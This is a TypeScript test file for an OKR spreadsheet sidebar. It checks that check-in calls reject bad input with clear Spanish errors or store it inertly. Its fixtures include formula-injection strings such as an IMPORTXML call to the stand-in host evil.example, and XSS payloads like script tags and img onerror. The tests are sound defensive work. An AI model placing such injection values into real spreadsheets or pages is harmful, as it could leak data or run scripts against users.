// A bad-input corpus through the sidebar's public server functions. Every input either
// gets a clear, localized error or is stored inertly as text, and no other cell changes.
import type { Emulator } from '../../emulator';
import { ANA, createCheckInWorkbook } from './fixtures/checkInFixture';

const CHECK_INS = 'Seguimiento';
const KR_SHEET = 'Resultados clave';
const LONG = 'x'.repeat(100_000);

function snapshot(emulator: Emulator) {
  return emulator.workbook.sheets.map((sheet) => ({
    name: sheet.name,
    values: emulator.sheetValues(sheet.name),
    formulas: emulator.sheetFormulas(sheet.name),
  }));
}

/**
 * A deliberate error (CheckInError, thrown by the bundle's own realm) with a message a
 * person can read: not a stack, not a JavaScript type error.
 */
function expectClearError(error: unknown): string {
  expect(Object.prototype.toString.call(error)).toBe('[object Error]');
  expect((error as Error).name).toBe('CheckInError');
  const message = (error as Error).message;
  expect(message.length).toBeGreaterThan(5);
  expect(message.length).toBeLessThan(300);
  expect(message).not.toMatch(
    /TypeError|ReferenceError|Cannot read|undefined|\[object|NaN|zod|Invalid input/,
  );
  return message;
}

// Sent through emulator.run, so values JSON cannot carry (NaN, Infinity, -0, undefined)
// reach the server as they are.
const valid = { keyResultId: 'KR1', value: '25', confidence: 'green', comment: 'ok' };

const REFUSED: [string, unknown][] = [
  ['no payload', undefined],
  ['null payload', null],
  ['a string payload', 'KR1'],
  ['a number payload', 42],
  ['an array payload', [valid]],
  ['unknown KR ID', { ...valid, keyResultId: 'KR404' }],
  ['formula as KR ID', { ...valid, keyResultId: '=KR1' }],
  ['empty KR ID', { ...valid, keyResultId: '' }],
  ['whitespace KR ID', { ...valid, keyResultId: '   ' }],
  ['100,000-character KR ID', { ...valid, keyResultId: LONG }],
  ['number as KR ID', { ...valid, keyResultId: 1 }],
  ['object as KR ID', { ...valid, keyResultId: { id: 'KR1' } }],
  ['array as KR ID', { ...valid, keyResultId: ['KR1'] }],
  ['null KR ID', { ...valid, keyResultId: null }],
  ['formula value', { ...valid, value: '=1+1' }],
  ['IMPORTXML value', { ...valid, value: '=IMPORTXML("http://evil.example","//a")' }],
  ['@SUM value', { ...valid, value: '@SUM(1)' }],
  ['HTML value', { ...valid, value: '<b>25</b>' }],
  ['NaN text', { ...valid, value: 'NaN' }],
  ['Infinity text', { ...valid, value: 'Infinity' }],
  ['NaN number', { ...valid, value: Number.NaN }],
  ['Infinity number', { ...valid, value: Number.POSITIVE_INFINITY }],
  ['-Infinity number', { ...valid, value: Number.NEGATIVE_INFINITY }],
  ['empty value', { ...valid, value: '' }],
  ['whitespace value', { ...valid, value: ' \t ' }],
  ['100,000-character value', { ...valid, value: LONG }],
  ['huge number', { ...valid, value: 1e300 }],
  ['object value', { ...valid, value: { amount: 25 } }],
  ['array value', { ...valid, value: [25] }],
  ['null value', { ...valid, value: null }],
  ['missing value', { keyResultId: 'KR1', confidence: 'green' }],
  ['boolean value on a number KR', { ...valid, value: true }],
  ['unknown confidence', { ...valid, confidence: 'purple' }],
  ['confidence label instead of id', { ...valid, confidence: 'On track' }],
  ['number confidence', { ...valid, confidence: 1 }],
  ['array confidence', { ...valid, confidence: ['green'] }],
  ['null confidence', { ...valid, confidence: null }],
  ['100,000-character comment', { ...valid, comment: LONG }],
  ['number comment', { ...valid, comment: 12 }],
  ['object comment', { ...valid, comment: { text: 'hi' } }],
  ['array comment', { ...valid, comment: ['hi'] }],
];

describe('saveCheckIn refuses bad input with a clear message and changes nothing', () => {
  const emulator = createCheckInWorkbook();
  const before = snapshot(emulator);

  it.each(REFUSED)('%s', (_name, payload) => {
    let thrown: unknown;
    try {
      emulator.run('saveCheckIn', [payload], { user: ANA });
    } catch (error) {
      thrown = error;
    }
    expectClearError(thrown);
    expect(snapshot(emulator)).toEqual(before);
  });

  it('names the limit for a long comment, in Spanish', () => {
    expect(() => emulator.run('saveCheckIn', [{ ...valid, comment: LONG }])).toThrow(
      'Comentario: El comentario tiene 100000 caracteres; el límite es 2000.',
    );
  });
});

const STORED_AS_TEXT: [string, string, string][] = [
  [
    'IMPORTXML',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTXML("http://evil.example","//a")',
  ],
  ['plus', '+1', '+1'],
  ['minus', '-1', '-1'],
  ['at', '@SUM(1)', '@SUM(1)'],
  ['script tag', '<script>alert(1)</script>', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
  ['leading tab', '\t=1+1', '=1+1'],
  ['leading line feed', '\n=1+1', '=1+1'],
  ['carriage return inside', 'a\r\n=b', 'a\n=b'],
  ['number-looking', '12', '12'],
  ['date-looking', '2026-05-01', '2026-05-01'],
  ['apostrophe', "'hola", "'hola"],
  ['whitespace only', '   ', ''],
  ['exactly 2,000 characters', 'ñ'.repeat(2000), 'ñ'.repeat(2000)],
];

describe('saveCheckIn stores typed text inertly', () => {
  it.each(STORED_AS_TEXT)('%s comment', (_name, comment, stored) => {
    const emulator = createCheckInWorkbook();
    const result = emulator.run('saveCheckIn', [{ ...valid, comment }], { user: ANA }) as {
      entry: { comment: string };
    };
    expect(result.entry.comment).toBe(stored);
    const values = emulator.sheetValues(CHECK_INS);
    const formulas = emulator.sheetFormulas(CHECK_INS);
    expect(values).toHaveLength(2);
    expect(values[1][4]).toBe(stored);
    expect(formulas[1]).toEqual(['', '', '', '', '', '', '']);
    const krValues = emulator.sheetValues(KR_SHEET);
    const lastComment = krValues[0].indexOf('Último comentario');
    expect(krValues[1][lastComment]).toBe(stored);
    expect(emulator.sheetFormulas(KR_SHEET)[1][lastComment]).toBe('');
  });

  it.each([
    ['+1', 1],
    ['-0', 0],
    [-0, 0],
    ['  25  ', 25],
    ['1.234,5', 1234.5],
  ] as [unknown, number][])('value %j is stored as the number %d', (value, stored) => {
    const emulator = createCheckInWorkbook();
    // Confirmed: 1.234,5 on a 10 → 40 KR is a value the sidebar asks about (checkInSanity).
    emulator.run('saveCheckIn', [{ ...valid, value, confirmed: true }], { user: ANA });
    const krValues = emulator.sheetValues(KR_SHEET);
    const current = krValues[1][krValues[0].indexOf('Actual')];
    expect(current).toBe(stored);
    expect(Object.is(current, -0)).toBe(false);
    expect(emulator.sheetValues(CHECK_INS)[1][2]).toBe(stored);
  });
});

describe('the other public calls refuse wrong types clearly', () => {
  const emulator = createCheckInWorkbook();
  const before = snapshot(emulator);
  it.each([undefined, null, 42, {}, [], '', LONG, 'KR404', '=KR1'])(
    'getKeyResultHistory(%j)',
    (id) => {
      let thrown: unknown;
      try {
        emulator.run('getKeyResultHistory', [id], { user: ANA });
      } catch (error) {
        thrown = error;
      }
      expectClearError(thrown);
    },
  );

  it.each([undefined, null, 42, {}, [], '', LONG, '=HYPERLINK("x")', 'nadie@example.com'])(
    'chooseIdentity(%j)',
    (email) => {
      let thrown: unknown;
      try {
        emulator.run('chooseIdentity', [email], { user: ANA });
      } catch (error) {
        thrown = error;
      }
      expectClearError(thrown);
      expect(emulator.propertyStores.user(ANA.email)).toEqual({});
    },
  );

  it('left every sheet as it was', () => {
    expect(snapshot(emulator)).toEqual(before);
  });
});
